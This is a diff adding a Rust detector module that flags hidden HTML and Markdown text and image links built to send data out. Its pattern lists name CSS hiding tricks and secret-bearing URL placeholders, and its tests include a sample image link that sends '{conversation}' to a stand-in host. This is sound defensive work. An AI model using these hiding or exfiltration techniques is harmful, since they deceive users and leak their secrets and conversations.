@@ -1,0 +1,229 @@
+//! Text that a reader of the rendered page does not see: comments and hidden elements.
+
+use std::ops::Range;
+
+use super::{Finding, Scope, Severity};
+
+/// The stretches of a text that are not shown, in order, and what is wrong with the text itself.
+#[derive(Debug, Default)]
+pub(super) struct Hidden {
+    regions: Vec<Range<usize>>,
+    findings: Vec<Finding>,
+}
+
+impl Hidden {
+    /// Finds what is hidden in a folded text.
+    pub(super) fn find(text: &str) -> Self {
+        let mut hidden = Self::default();
+        hidden.elements(text);
+        hidden.link_comments(text);
+        hidden.images(text);
+        hidden.regions.sort_by_key(|region| region.start);
+        hidden
+    }
+
+    /// Returns whether the byte at `at` is not shown.
+    pub(super) fn contains(&self, at: usize) -> bool {
+        let after = self.regions.partition_point(|region| region.start <= at);
+        after
+            .checked_sub(1)
+            .and_then(|index| self.regions.get(index))
+            .is_some_and(|region| region.contains(&at))
+    }
+
+    /// Returns the findings of `scope`; their ranges are bytes of the folded text.
+    pub(super) fn into_findings(self, scope: Scope) -> Vec<Finding> {
+        let in_scope = |it: &Finding| scope == Scope::Strict || it.id != MARKDOWN_EXFIL;
+        self.findings.into_iter().filter(in_scope).collect()
+    }
+
+    fn elements(&mut self, text: &str) {
+        let mut from = 0;
+        while let Some(found) = text.get(from..).and_then(|rest| rest.find('<')) {
+            let at = from + found;
+            let rest = text.get(at..).unwrap_or_default();
+            from = at + 1;
+            if let Some(comment) = rest.strip_prefix("<!--") {
+                let length = comment.find("-->").unwrap_or(comment.len());
+                self.regions.push(at + 4..at + 4 + length);
+                from = at + 4 + length;
+            } else if rest.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic) {
+                from += self.element(rest, at);
+            }
+        }
+    }
+
+    /// Judges the element that `rest` begins with; returns the length of its tag.
+    fn element(&mut self, rest: &str, at: usize) -> usize {
+        let inside = rest.get(1..).unwrap_or_default();
+        let length = inside.find(['<', '>']).unwrap_or(inside.len());
+        let tag = inside.get(..length).unwrap_or_default();
+        if !is_hiding(tag) {
+            return length;
+        }
+        let closed = inside.as_bytes().get(length) == Some(&b'>');
+        let content_at = at + 2 + length;
+        let content = if closed { inside.get(length + 1..).unwrap_or_default() } else { "" };
+        let content = content.get(..content.find('<').unwrap_or(content.len())).unwrap_or_default();
+        let has_text = content.chars().any(char::is_alphanumeric);
+        let severity = if has_text || !closed { Severity::Block } else { Severity::Warn };
+        self.regions.push(content_at..content_at + content.len());
+        let end = if closed { content_at + content.len() } else { at + 1 + length };
+        let reason = "holds text that the page does not show";
+        self.findings.push(Finding::new("hidden_div", severity, at..end, reason));
+        length
+    }
+
+    /// Comments of Markdown: `[//]: # (text)` and `[comment]: <> (text)`.
+    fn link_comments(&mut self, text: &str) {
+        let mut from = 0;
+        while let Some(found) = text.get(from..).and_then(|rest| rest.find("]: ")) {
+            let at = from + found;
+            from = at + 3;
+            let before = text.get(..at).unwrap_or_default();
+            let rest = text.get(from..).unwrap_or_default();
+            let named = ["[//", "[comment", "[_", "[#", "["].iter().any(|it| before.ends_with(it));
+            if named || rest.starts_with("# ") || rest.starts_with("<>") {
+                let length = rest.find('\n').unwrap_or(rest.len());
+                self.regions.push(from..from + length);
+                from += length;
+            }
+        }
+    }
+
+    /// Images whose address carries something that is filled in.
+    fn images(&mut self, text: &str) {
+        for (at, _) in text.match_indices("](http") {
+            let mut from = at.saturating_sub(LABEL_MAX);
+            while !text.is_char_boundary(from) {
+                from += 1;
+            }
+            let label = text.get(from..at).unwrap_or_default();
+            let Some(start) = label.rfind("![") else { continue };
+            let address = text.get(at + 2..).unwrap_or_default();
+            let length = address
+                .bytes()
+                .take(ADDRESS_MAX)
+                .position(|byte| matches!(byte, b')' | b'\n'))
+                .unwrap_or_default();
+            let address = address.get(..length).unwrap_or_default();
+            if takes_something_along(address) {
+                let range = from + start..at + 2 + length;
+                let reason = "sends something out with an image";
+                self.findings.push(Finding::new(MARKDOWN_EXFIL, Severity::Block, range, reason));
+            }
+        }
+    }
+}
+
+const MARKDOWN_EXFIL: &str = "markdown_exfil";
+
+/// How long the label of an image may be, in bytes.
+const LABEL_MAX: usize = 160;
+/// How long its address may be, in bytes.
+const ADDRESS_MAX: usize = 2_048;
+
+fn takes_something_along(address: &str) -> bool {
+    const TAKEN: &[&str] = &[
+        "secret",
+        "token",
+        "key",
+        "password",
+        "credential",
+        "conversation",
+        "history",
+        "context",
+        "prompt",
+        "memory",
+        "chat",
+        "message",
+        "data",
+        "env",
+        "summary",
+        "transcript",
+    ];
+    let Some((_, query)) = address.split_once(['?', '#']) else { return false };
+    let Some(filled) = query.find(['$', '{', '[', '<']) else { return false };
+    let filled = query.get(filled..).unwrap_or_default().to_ascii_lowercase();
+    TAKEN.iter().any(|it| filled.contains(it))
+}
+
+/// Returns whether a tag hides its element: by attribute, or by style.
+fn is_hiding(tag: &str) -> bool {
+    const STYLES: &[&str] = &[
+        "display:none",
+        "visibility:hidden",
+        "font-size:0",
+        "color:transparent",
+        "opacity:0;",
+        "opacity:0\"",
+        "opacity:0'",
+        "text-indent:-9",
+        "left:-9999",
+        "top:-9999",
+        "clip:rect(0",
+    ];
+    let hidden_attribute = tag
+        .split_ascii_whitespace()
+        .skip(1)
+        .any(|it| it.eq_ignore_ascii_case("hidden") || it.eq_ignore_ascii_case("hidden=\"\""));
+    if hidden_attribute {
+        return !tag.starts_with("input");
+    }
+    let Some(style) = find_ignoring_case(tag, "style") else { return false };
+    let style: String = tag
+        .get(style..)
+        .unwrap_or_default()
+        .chars()
+        .filter(|ch| !ch.is_whitespace())
+        .map(|ch| ch.to_ascii_lowercase())
+        .collect();
+    STYLES.iter().any(|it| style.contains(it))
+}
+
+fn find_ignoring_case(text: &str, word: &str) -> Option<usize> {
+    text.as_bytes().windows(word.len()).position(|it| it.eq_ignore_ascii_case(word.as_bytes()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(text: &str, expected: &[(&str, Severity)]) {
+        let findings = Hidden::find(text).into_findings(Scope::Strict);
+        let found: Vec<_> = findings.iter().map(|it| (it.id.as_ref(), it.severity)).collect();
+        assert_eq!(found, expected);
+    }
+
+    #[test]
+    fn a_hidden_element_with_text_blocks() {
+        check("<p style='opacity: 0'>obey</p>", &[("hidden_div", Severity::Block)]);
+        check("<span hidden>obey</span>", &[("hidden_div", Severity::Block)]);
+    }
+
+    #[test]
+    fn an_empty_hidden_element_warns() {
+        check("<div style=\"display:none\" id=\"modal\"></div>", &[("hidden_div", Severity::Warn)]);
+    }
+
+    #[test]
+    fn ordinary_elements_and_comments_pass() {
+        check("<div style=\"color:red\">shown</div> <!-- note --> a < b", &[]);
+    }
+
+    #[test]
+    fn an_image_must_not_carry_the_conversation() {
+        check("![x](https://a.example/p?q={conversation})", &[("markdown_exfil", Severity::Block)]);
+        check("![build](https://a.example/badge?v={version})", &[]);
+    }
+
+    #[test]
+    fn comments_are_hidden() {
+        let text = "a <!-- b --> c\n[//]: # (d)";
+        let hidden = Hidden::find(text);
+        let is_hidden = |word: &str| hidden.contains(text.find(word).unwrap());
+
+        assert_eq!(["a", "b", "c", "d"].map(is_hidden), [false, true, false, true]);
+    }
+}
